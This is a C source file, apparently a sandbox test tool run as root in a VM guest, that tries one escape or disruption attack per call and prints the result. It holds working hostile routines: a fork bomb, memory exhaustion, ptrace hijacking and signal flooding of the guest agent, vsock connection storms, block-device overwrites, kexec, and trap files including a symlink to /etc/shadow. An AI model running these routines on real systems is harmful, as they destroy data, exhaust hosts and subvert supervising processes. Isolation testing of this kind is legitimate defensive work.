/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What busybox cannot do to the host: run as root in the guest, one attack per call. Each prints
 * what came of it; that a kernel refuses is an answer like any other.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* uapi/linux/vm_sockets.h and linux/fs.h, which a plain musl does not bring. */
struct vsock_address {
    sa_family_t family;
    uint16_t reserved;
    uint32_t port, cid;
    uint8_t zero[4];
};
#define BLK_SET_RO   _IO(0x12, 93)
#define BLK_DISCARD  _IO(0x12, 119)
#define BLK_ZERO_OUT _IO(0x12, 127)

static void verdict(const char *what, long rc)
{
    printf("%s: %s\n", what, rc < 0 ? strerror(errno) : "done");
    fflush(stdout);
}

static unsigned number(const char *text)
{
    return (unsigned)strtoul(text, NULL, 0);
}

/* ---- processes and memory ---- */

static void fork_bomb(void)
{
    puts("forking");
    fflush(stdout);
    sleep(2); /* the line leaves first: afterwards nobody may come to carry it */
    for (;;)
        (void)fork();
}

static void eat_memory(void)
{
    puts("eating");
    fflush(stdout);
    for (;;) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p != MAP_FAILED)
            memset(p, 'x', 1 << 20);
    }
}

/* ---- the agent ---- */

static void signal_agent(void)
{
    for (int s = 1; s <= 64; s++) {
        /* These five ask the agent for a shutdown, which is no attack. */
        if (s == SIGINT || s == SIGPWR || s == SIGTERM || s == SIGUSR1 || s == SIGUSR2)
            continue;
        (void)kill(1, s);
    }
    puts("signalled");
}

static bool attach_agent(void)
{
    int status;
    long rc = ptrace(PTRACE_ATTACH, 1, NULL, NULL);

    if (rc == 0)
        rc = waitpid(1, &status, 0);
    verdict("attach", rc);
    return rc >= 0;
}

static void stop_agent(void)
{
    if (attach_agent())
        for (;;)
            pause();
}

static void crash_agent(void)
{
    struct user_regs_struct regs;

    if (!attach_agent())
        return;
    long rc = ptrace(PTRACE_GETREGS, 1, NULL, &regs);
    regs.rip = 0x666;
    if (rc == 0)
        rc = ptrace(PTRACE_SETREGS, 1, NULL, &regs);
    /* An interrupted system call would be restarted two bytes before. */
    regs.orig_rax = (unsigned long long)-1;
    if (rc == 0)
        rc = ptrace(PTRACE_SETREGS, 1, NULL, &regs);
    if (rc == 0)
        rc = ptrace(PTRACE_DETACH, 1, NULL, NULL);
    verdict("crash", rc);
}

/* Whatever the agent has open gets rubbish: its connection to the host is among it. */
static void garble_agent(void)
{
    static unsigned char rubbish[65536];
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);

    for (size_t i = 0; i < sizeof(rubbish); i++)
        rubbish[i] = (unsigned char)(i * 37 + 0xa5);
    verdict("pidfd", pidfd);
    fflush(stdout);
    for (int fd = 3; fd < 32; fd++) {
        int copy = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (copy >= 0)
            (void)!write(copy, rubbish, sizeof(rubbish));
    }
}

/* ---- vsock ---- */

static int vsock(int flags)
{
    return socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC | flags, 0);
}

static int vsock_call(int fd, bool listening, uint32_t cid, uint32_t port)
{
    union {
        struct vsock_address vsock;
        struct sockaddr any;
    } a = {.vsock = {.family = AF_VSOCK, .cid = cid, .port = port}};

    return listening ? bind(fd, &a.any, sizeof(a.vsock)) : connect(fd, &a.any, sizeof(a.vsock));
}

/* COUNT connections to the host, one port after the other, each left half open. */
static void storm(uint32_t cid, uint32_t first, unsigned step, unsigned count)
{
    struct rlimit files = {count + 64, count + 64};
    unsigned made = 0, refused = 0, begun = 0;

    (void)setrlimit(RLIMIT_NOFILE, &files);
    int *fds = calloc(count, sizeof(*fds));
    for (unsigned i = 0; fds && i < count; i++) {
        fds[i] = vsock(SOCK_NONBLOCK);
        if (fds[i] < 0)
            break;
        if (vsock_call(fds[i], false, cid, first + i * step) == 0)
            made++;
        else if (errno == EINPROGRESS)
            begun++;
        else
            refused++;
    }
    printf("made %u, begun %u, refused %u\n", made, begun, refused);
    fflush(stdout);
    /* The answers come while the rest is thrown away without looking. */
    for (unsigned i = 0; fds && i < count; i += 2)
        close(fds[i]);
    struct pollfd p = {.fd = -1};
    (void)poll(&p, 1, 200);
}

static int listener(uint32_t port, int backlog)
{
    int fd = vsock(0);

    if (fd < 0 || vsock_call(fd, true, UINT32_MAX, port) < 0 || listen(fd, backlog) < 0) {
        verdict("listen", -1);
        exit(1);
    }
    puts("listening");
    fflush(stdout);
    return fd;
}

static void never_accept(uint32_t port)
{
    (void)listener(port, 1);
    for (;;)
        pause();
}

/* One connection: sends MIB mebibytes as fast as they go, then answers the same way what comes. */
static void pour(uint32_t port, unsigned mib)
{
    static char block[65536];
    int fd = accept(listener(port, 4), NULL, NULL);
    ssize_t n;

    for (unsigned i = 0; fd >= 0 && i < mib * 16; i++)
        for (size_t done = 0; done < sizeof(block); done += (size_t)n)
            if ((n = write(fd, block + done, sizeof(block) - done)) <= 0)
                exit(1);
    while ((n = read(fd, block, sizeof(block))) > 0)
        if (write(fd, block, (size_t)n) != n)
            exit(1);
}

/* Takes the connection and never reads it. */
static void never_read(uint32_t port)
{
    int fd = accept(listener(port, 4), NULL, NULL);

    verdict("accept", fd);
    for (;;)
        pause();
}

/* ---- hardware ---- */

static void try_ports(void)
{
    verdict("iopl", iopl(3));
    verdict("ioperm", ioperm(0, 1024, 1));
    verdict("/dev/port", open("/dev/port", O_RDWR | O_CLOEXEC));
    verdict("/dev/mem", open("/dev/mem", O_RDWR | O_CLOEXEC));
}

static void write_disk(const char *path)
{
    static char block[4096];
    uint64_t range[2] = {0, 65536};
    int off = 0;
    int fd = open(path, O_RDONLY | O_CLOEXEC);

    memset(block, 0xee, sizeof(block));
    verdict("make writable", ioctl(fd, BLK_SET_RO, &off));
    close(fd);
    fd = open(path, O_RDWR | O_CLOEXEC);
    verdict("open", fd);
    verdict("discard", ioctl(fd, BLK_DISCARD, range));
    verdict("zero out", ioctl(fd, BLK_ZERO_OUT, range));
    long rc = pwrite(fd, block, sizeof(block), 0);
    verdict("write", rc < 0 ? rc : fsync(fd));
    fd = open(path, O_RDWR | O_DIRECT | O_CLOEXEC);
    void *aligned = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memset(aligned, 0xee, 4096);
    verdict("write directly", pwrite(fd, aligned, 4096, 4096));
}

static void load_kernel(void)
{
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

    verdict("kexec_load", syscall(SYS_kexec_load, 0ul, 0ul, NULL, 0x3e0000ul));
    verdict("kexec_file_load", syscall(SYS_kexec_file_load, fd, -1, 1ul, "", 0ul));
}

/* ---- files that a copy stumbles over ---- */

static void make_traps(void)
{
    int fd = open("\x1b[2J\x07name\nwith\tcontrol", O_CREAT | O_WRONLY, 0644);

    verdict("control name", fd);
    verdict("latin name", open("\xff\xfe\x80", O_CREAT | O_WRONLY, 0644));
    fd = open("sparse", O_CREAT | O_WRONLY, 0644);
    verdict("sparse size", ftruncate(fd, (off_t)3 << 30));
    verdict("device", mknod("device", S_IFBLK | 0666, 0xfe00));
    verdict("null", mknod("null", S_IFCHR | 0666, 0x0103));
    verdict("fifo", mkfifo("fifo", 0666));
    verdict("socket", mknod("socket", S_IFSOCK | 0666, 0));
    verdict("link out", symlink("../../../../../../../../etc/shadow", "link"));
    verdict("link folder", symlink("/tmp", "folder"));
    verdict("link to self", symlink("loop", "loop"));
}

/* A file system that never answers: whoever looks at it waits. */
static void mute_files(const char *dir)
{
    char options[64];
    int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);

    snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
    verdict("mount", mount("mute", dir, "fuse", 0, options));
    for (;;)
        pause();
}

static void make_deep(unsigned depth)
{
    for (unsigned i = 0; i < depth; i++)
        if (mkdir("d", 0755) < 0 || chdir("d") < 0) {
            verdict("deep", -1);
            return;
        }
    verdict("deep", open("bottom", O_CREAT | O_WRONLY, 0644));
}

static void make_many(unsigned count)
{
    char name[32];

    for (unsigned i = 0; i < count; i++) {
        snprintf(name, sizeof(name), "f%u", i);
        int fd = open(name, O_CREAT | O_WRONLY, 0644);
        if (fd < 0 || write(fd, name, strlen(name)) < 0) {
            verdict("many", -1);
            return;
        }
        close(fd);
    }
    puts("many");
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    unsigned arg[4] = {0};

    for (int i = 2; i < argc && i < 6; i++)
        arg[i - 2] = number(argv[i]);
    if (strcmp(what, "fork-bomb") == 0)
        fork_bomb();
    else if (strcmp(what, "eat-memory") == 0)
        eat_memory();
    else if (strcmp(what, "signal-agent") == 0)
        signal_agent();
    else if (strcmp(what, "stop-agent") == 0)
        stop_agent();
    else if (strcmp(what, "crash-agent") == 0)
        crash_agent();
    else if (strcmp(what, "garble-agent") == 0)
        garble_agent();
    else if (strcmp(what, "storm") == 0)
        storm(arg[0], arg[1], arg[2], arg[3]);
    else if (strcmp(what, "never-accept") == 0)
        never_accept(arg[0]);
    else if (strcmp(what, "never-read") == 0)
        never_read(arg[0]);
    else if (strcmp(what, "pour") == 0)
        pour(arg[0], arg[1]);
    else if (strcmp(what, "try-ports") == 0)
        try_ports();
    else if (strcmp(what, "write-disk") == 0)
        write_disk(argv[2]);
    else if (strcmp(what, "load-kernel") == 0)
        load_kernel();
    else if (strcmp(what, "make-traps") == 0)
        make_traps();
    else if (strcmp(what, "make-deep") == 0)
        make_deep(arg[0]);
    else if (strcmp(what, "mute-files") == 0)
        mute_files(argv[2]);
    else if (strcmp(what, "make-many") == 0)
        make_many(arg[0]);
    else
        return 2;
    return 0;
}
